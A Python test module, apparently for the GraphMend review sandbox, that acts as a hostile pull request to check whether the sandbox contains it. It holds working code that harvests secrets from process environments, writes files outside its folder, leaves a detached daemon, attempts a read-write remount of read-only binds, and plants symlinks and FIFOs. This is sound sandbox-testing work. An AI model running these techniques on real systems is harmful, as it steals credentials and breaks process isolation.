"""What a hostile pull request's code tries, as a real module the tests copy into a repository.

``attack(plan)`` runs in the worker (imported from the repository as a target's code would be)
and tries, with everything the process can reach: to read every process's environment (the
parent's included) for secrets, to connect to a listener on the host's loopback, to write canary
files outside its scratch folder (the checkout, ``$HOME``, the runner's folders), and to leave a
double-forked daemon behind that keeps writing after the job. It returns what it got, the way a
target smuggles data out: in its own result (and ``hostile_target`` raises it, so it lands in
review.json and the log).

``plant_in_scratch()`` attacks the parent's reading of the scratch folder instead: symlinks
and FIFOs at the names it reads or writes.

``plan`` (a JSON file named by ``ATTACK_PLAN`` next to this module): ``{"secret": "...",
"port": N, "write": [paths], "heartbeat": path, "daemon_s": seconds, "links": {name: target},
"fifos": [names]}``.
"""

from __future__ import annotations

import json
import os
import socket
import sys
import time
from pathlib import Path

ATTACK_PLAN = "attack-plan.json"


def _environments(secret: str) -> list[str]:
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            data = Path(f"/proc/{entry}/environ").read_bytes()
        except OSError:
            continue
        for item in data.split(b"\0"):
            if secret.encode() in item:
                found.append(item.decode("utf-8", "replace"))
    return found


def _daemon(heartbeat: str, seconds: float, targets: list[str]) -> None:
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    # The grandchild: no parent, its own session; it outlives the worker unless something ends it.
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for path in [heartbeat, *targets]:
            try:
                with open(path, "a") as f:
                    f.write(f"daemon {time.time()}\n")
            except OSError:
                pass
        time.sleep(0.1)
    os._exit(0)


def _remount_read_write() -> list[str]:
    """Remount the read-only binds it is given (the tree it was imported from, GraphMend's own
    package) read-write: what a process keeping CAP_SYS_ADMIN in the sandbox's namespaces can do."""
    import ctypes
    import ctypes.util

    import graphmend

    libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
    ms_remount, ms_bind = 32, 4096
    done = []
    for path in (str(Path(__file__).resolve().parents[1]), str(Path(graphmend.__file__).resolve().parent)):
        # Only a bind the sandbox made is a mount point; on a host these folders are not, and stay untouched.
        if os.path.ismount(path) and libc.mount(None, path.encode(), None, ms_remount | ms_bind, None) == 0:
            done.append(path)
    return done


def _capabilities() -> int:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("CapEff:"):
            return int(line.split()[1], 16)
    return 0


def attack(plan: dict) -> dict:
    loot: dict = {"secrets": _environments(plan["secret"]), "written": [], "connected": False,
                  "capabilities": _capabilities(), "remounted": _remount_read_write(),
                  "host_tls_keys": os.path.exists("/etc/ssl/private"), "hostname": socket.gethostname()}
    try:
        socket.create_connection(("127.0.0.1", int(plan["port"])), timeout=2).close()
        loot["connected"] = True
    except OSError as exc:
        loot["connect_error"] = str(exc)
    for path in plan.get("write", []):
        try:
            with open(path, "w") as f:
                f.write("pwned")
            loot["written"].append(path)
        except OSError:
            pass
    if plan.get("heartbeat"):
        _daemon(plan["heartbeat"], float(plan.get("daemon_s", 5)), plan.get("write", []))
    return loot


def load_plan() -> dict:
    return json.loads((Path(__file__).resolve().parent / ATTACK_PLAN).read_text())


def run() -> dict:
    """The selftest ``call`` entry: attack and return the loot as the job's result."""
    return attack(load_plan())


def plant_in_scratch() -> None:
    """Swap names the parent may use in the scratch folder (``python -m graphmend.worker SCRATCH``)
    for symlinks to host paths (``/proc/self/mountinfo`` names them) or FIFOs, print, and exit
    before the worker writes its own response."""
    plan = load_plan()
    scratch = Path(sys.argv[-1])
    for name, target in plan.get("links", {}).items():
        (scratch / name).unlink(missing_ok=True)
        os.symlink(target, scratch / name)
    for name in plan.get("fifos", []):
        (scratch / name).unlink(missing_ok=True)
        os.mkfifo(scratch / name)
    print("pwned by stdout", flush=True)
    print("pwned by stderr", file=sys.stderr, flush=True)
    os._exit(0)


def hostile_target():  # noqa: ANN201 - a target factory
    """A target factory that attacks, then hands the loot back through the only channel it has."""
    raise RuntimeError("LOOT " + json.dumps(attack(load_plan()), sort_keys=True))


if __name__ == "__main__":
    print(json.dumps(attack(json.loads(sys.argv[1]))))
